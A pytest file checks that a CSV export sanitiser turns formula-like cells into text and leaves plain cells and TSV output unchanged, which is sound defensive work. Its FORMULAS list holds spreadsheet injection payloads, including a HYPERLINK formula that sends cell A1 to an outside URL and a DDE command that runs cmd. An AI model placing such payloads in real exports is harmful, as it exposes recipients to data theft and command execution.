"""No cell of CSV for a person is a formula."""

import csv
from io import StringIO

import pytest

from cocreation.services.spreadsheets import harmless
from cocreation.store.base import CSV, TSV, Answer

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
]
PLAIN = ["one, two", 'a "quote"', "-12", "+3.5e7", "1=1", "a=b", "甲", "", "two\r\nlines", "'=1"]


def answer(cells, media_type=CSV):
    output = StringIO(newline="")
    csv.writer(output).writerows([["cell"], *([one, "x"] for one in cells)])
    return Answer(media_type, output.getvalue().encode(), "select")


def cells(given):
    rows = csv.reader(StringIO(given.body.decode(), newline=""))
    return [row[0] for row in rows][1:]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_a_text(formula):
    assert cells(harmless(answer([formula, *PLAIN]))) == [f"'{formula}", *PLAIN]


def test_what_is_no_formula_stays_to_the_byte():
    plain = answer(PLAIN)
    assert harmless(plain) == plain


def test_other_formats_stay():
    other = answer(FORMULAS, TSV)
    assert harmless(other) is other
